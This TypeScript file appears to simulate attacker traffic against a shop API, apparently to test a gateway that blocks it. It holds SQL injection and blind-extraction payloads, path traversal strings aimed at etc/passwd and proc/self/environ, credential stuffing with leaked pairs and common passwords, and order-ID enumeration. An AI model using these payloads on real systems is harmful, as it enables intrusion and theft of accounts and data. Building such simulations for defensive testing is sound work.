import type { Person } from '../people.ts';
import { itemsOf, tokenOf } from './answers.ts';
import type { Answer, Ask, Visitor } from './visitor.ts';

/** What one campaign knows: the next stolen account, and everybody whose data might have leaked somewhere. */
export interface Loot {
  readonly account: Person;
  readonly leaked: readonly Person[];
}

export type Campaign = (visitor: Visitor, loot: Loot) => Promise<void>;

/** Refusals in a row after which an attacker takes it that it is blocked. */
const GIVE_UP_AFTER = 4;

/** Sends as long as it is let through; false when this campaign is over. */
function createAttempts(visitor: Visitor): (method: string, path: string, ask?: Ask) => Promise<Answer | false> {
  let refused = 0;
  return async (method, path, ask) => {
    const answer = await visitor.send(method, path, ask);
    // 403, 429 and a cut connection are what a gateway answers; the shop itself has no such answer on these paths.
    refused = answer.status === 403 || answer.status === 429 || answer.status === 0 ? refused + 1 : 0;
    return refused < GIVE_UP_AFTER && answer;
  };
}

/** Looks for a place where the search breaks, then reads the staff's addresses letter by letter. */
export const probeSearch: Campaign = async (visitor) => {
  const attempt = createAttempts(visitor);
  const probes = [
    'oak',
    "oak'",
    'oak"',
    "oak' AND '1'='1",
    "oak' AND '1'='2",
    "oak%' OR 1=1 --",
    "oak') OR ('a'='a",
    "x%' UNION SELECT id FROM staff --",
    "x%' UNION SELECT sql FROM sqlite_master --",
  ];
  const guesses = Array.from('abcdefghijklmnopqrstuvwxyz', (letter, index) => {
    return `%' AND substr((SELECT email FROM staff LIMIT 1),${1 + (index % 4)},1)='${letter}' --`;
  });
  for (const probe of [...probes, ...guesses]) {
    if (!(await attempt('GET', `/api/v1/search?q=${encodeURIComponent(probe)}`))) return;
    await visitor.pause(500);
  }
};

/** Tries to climb out of the folders that files are served from. */
export const probeFiles: Campaign = async (visitor) => {
  const attempt = createAttempts(visitor);
  const targets = [
    'etc/passwd',
    'etc/hosts',
    'proc/self/environ',
    'config/shop.ini',
    'var/log/app.log',
    'windows/win.ini',
  ];
  const climbs = ['../', '..%2f', '%2e%2e/', '..%252f', '....//', '..%5c'];
  for (const target of targets) {
    for (const [index, climb] of climbs.entries()) {
      const path = climb.repeat(2 + (index % 3)) + target;
      const place = visitor.random.chance(0.7) ? `/api/v1/downloads?file=${path}` : `/assets/${path}`;
      if (!(await attempt('GET', place))) return;
      await visitor.pause(700);
    }
  }
};

const COMMON_PASSWORDS = ['Summer2025!', 'Password1', 'qwerty123', 'letmein99', 'iloveyou2', 'football7'];
const STRANGERS = ['alex', 'maria', 'chen', 'fatima', 'john', 'olga', 'pedro', 'yuki', 'anna', 'david'];

/** Tries pairs from somebody else's leak: most people are unknown here, few passwords still fit. */
export const stuffCredentials: Campaign = async (visitor, { leaked }) => {
  const { random } = visitor;
  const attempt = createAttempts(visitor);
  for (let tries = random.int(90, 140); tries > 0; tries--) {
    const known = random.chance(0.3) ? random.pick(leaked) : undefined;
    const email = known?.email ?? `${random.pick(STRANGERS)}${random.int(10, 9999)}@example.com`;
    const password = known && random.chance(0.08) ? known.password : random.pick(COMMON_PASSWORDS);
    const answer = await attempt('POST', '/api/v1/auth/login', { body: { email, password } });
    if (!answer) return;
    const token = tokenOf(answer);
    if (token && !(await attempt('GET', '/api/v1/account', { token }))) return;
    await visitor.pause(300);
  }
};

/** A customer like any other, whose program counts order numbers. */
export const enumerateOrders: Campaign = async (visitor, { account }) => {
  const { random } = visitor;
  const attempt = createAttempts(visitor);
  const answer = await attempt('POST', '/api/v1/auth/login', {
    body: { email: account.email, password: account.password },
  });
  const token = answer ? tokenOf(answer) : undefined;
  if (!token) return;
  const list = await attempt('GET', '/api/v1/orders', { token });
  const own = (list && itemsOf(list)[0]?.id) || 100_200;
  for (let id = own - random.int(60, 120); id < own; id++) {
    if (!(await attempt('GET', `/api/v1/orders/${id}`, { token }))) return;
    await visitor.pause(400);
  }
  await attempt('GET', '/api/v1/admin/reports/sales', { token });
};
